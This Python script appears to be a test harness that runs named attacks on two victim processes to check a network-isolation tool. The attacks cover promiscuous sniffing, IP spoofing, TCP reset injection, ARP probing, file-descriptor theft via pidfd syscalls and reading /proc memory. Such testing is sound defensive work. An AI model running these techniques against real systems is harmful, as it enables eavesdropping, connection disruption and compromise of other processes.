"""One attack on two victims, and whether it succeeded as far as the attacker can tell.

Arguments: the attack, the user who tries it, the server's address, the client's, the interface they are
on, the server's process. The last line says `succeeded` or `failed: WHY`. An attack that needs the victims
to do something says `ready` and waits for a line; one that has the victims judge says `done`.
"""

import array
import ctypes
import encodings.idna  # while the libraries can be read
import errno
import os
import random
import signal
import socket
import struct
import sys

PORT = 5000
SECRET = b"the secret of both"
FORGED = b"forged"
#: How long a packet may take that ought to come.
PATIENCE = 3

name, user, server, client, interface, victim = sys.argv[1:7]
if user != "0":
    os.setgroups([])
    os.setresgid(int(user), int(user), int(user))
    os.setresuid(int(user), int(user), int(user))


def wait():
    print("ready", flush=True)
    sys.stdin.readline()


def checksum(data):
    words = array.array("H", data + b"\0" * (len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, destination, protocol, payload):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    length = 20 + len(payload)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, 7, 0, 64, protocol, 0) + addresses
    header = header[:10] + struct.pack("H", checksum(header)) + header[12:]
    return header + payload


def with_checksum(source, destination, protocol, segment, at):
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination)
    pseudo += struct.pack("!BBH", 0, protocol, len(segment))
    return segment[:at] + struct.pack("H", checksum(pseudo + segment)) + segment[at + 2 :]


def datagram(source, destination):
    header = struct.pack("!HHHH", 4000, PORT + 1, 8 + len(FORGED), 0)
    return packet(source, destination, 17, header + FORGED)


def raw():
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sender


def everything():
    """All frames of all interfaces, those of others too (PACKET_MR_PROMISC)."""
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    for index, _ in socket.if_nameindex():
        try:
            sniffer.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))
        except OSError:
            pass  # one that is not the kernel's
    sniffer.setblocking(False)
    return sniffer


def frames(sniffer):
    while True:
        try:
            yield sniffer.recv(65536)
        except BlockingIOError:
            return


def connect():
    stream = socket.create_connection((server, PORT), PATIENCE)
    stream.sendall(b"let me in")
    return stream.recv(100) == b"let me in"


def send():
    sender = socket.socket(type=socket.SOCK_DGRAM)
    sender.settimeout(PATIENCE)
    sender.sendto(b"take this", (server, PORT + 1))
    return sender.recv(100) == b"take this"


def bind():
    listener = socket.socket()
    listener.bind((server, PORT))
    listener.listen()
    return True


def bind_everywhere():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", PORT))
    listener.listen()
    wait()


def bind_while_it_runs():
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, option, 1)
        listener.bind((server, PORT))
        listener.listen()
    return True


def pose_as_client():
    stream = socket.socket()
    stream.bind((client, 0))
    stream.settimeout(PATIENCE)
    stream.connect((server, PORT))
    return True


def bind_to_interface():
    sender = socket.socket(type=socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    sender.settimeout(PATIENCE)
    sender.sendto(b"take this", (server, PORT + 1))
    return sender.recv(100) == b"take this"


def join_group():
    listener = socket.socket(type=socket.SOCK_DGRAM)
    group = socket.inet_aton("239.1.2.3") + socket.inet_aton(server)
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    return True


def sniff():
    sniffer = everything()
    wait()
    return any(SECRET in frame for frame in frames(sniffer))


def spoof():
    raw().sendto(datagram(client, server), (server, 0))


def reset():
    """Learns the numbers of the victims' connection, and ends it."""
    sniffer = everything()
    wait()
    for frame in frames(sniffer):
        ip = frame[14:]
        if len(ip) < 40 or ip[9] != 6 or ip[12:16] != socket.inet_aton(client):
            continue
        source_port, port, sequence, acknowledged = struct.unpack("!HHII", ip[20:32])
        data = struct.unpack("!H", ip[2:4])[0] - 20 - (ip[32] >> 4) * 4
        if port != PORT or not data:
            continue
        sequence = (sequence + data) & 0xFFFFFFFF
        segment = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 0x50, 4, 0, 0, 0)
        segment = with_checksum(client, server, 6, segment, 16)
        raw().sendto(packet(client, server, 6, segment), (server, 0))
        print("done", flush=True)
        sys.exit()
    return False


def ask_by_arp():
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x806))
    wire.bind((interface, 0))
    mac = wire.getsockname()[4]
    wire.settimeout(PATIENCE)
    own = socket.inet_aton("10.77.0.9")
    question = struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + mac + own + b"\0" * 6
    wire.send(b"\xff" * 6 + mac + b"\x08\x06" + question + socket.inet_aton(server))
    while True:
        frame = wire.recv(100)
        if frame[20:22] == b"\0\2" and frame[28:32] == socket.inet_aton(server):
            return True


def spoof_from_the_wire():
    raw().sendto(datagram(client, server), (server, 0))


def steal_descriptor():
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, int(victim), 0)
    stolen = [libc.syscall(438, process, number, 0) for number in range(3, 9)]
    if max(stolen) < 0:
        raise OSError(ctypes.get_errno(), "")
    return True


def read_memory():
    with open(f"/proc/{victim}/mem", "rb") as memory:
        return bool(memory.read(1))


def garbage():
    """Sessions of noise, with descriptors that are nobody's business."""
    noise = random.Random(7)
    for _ in range(64):
        session = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        session.connect(os.environ["NARROWS_SOCKET"])
        for _ in range(8):
            stray = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))]
            try:
                session.sendmsg([noise.randbytes(noise.randrange(1, 200))], stray)
            except OSError:
                break


def stop_with_full_buffers():
    listener = socket.create_server(("127.0.0.1", 0))
    held = []
    for _ in range(32):
        stream = socket.create_connection(listener.getsockname())
        stream.setblocking(False)
        try:
            while True:
                stream.send(b"x" * 65536)
        except BlockingIOError:
            held.append(stream)
    print("ready", flush=True)
    os.kill(os.getpid(), signal.SIGSTOP)


try:
    succeeded = globals()[name]()
    if succeeded is None:
        print("done")
    else:
        print("succeeded" if succeeded else "failed: there is nothing to see")
except TimeoutError:
    print("failed: no answer")
except OSError as error:
    print(f"failed: {errno.errorcode.get(error.errno, error)}")
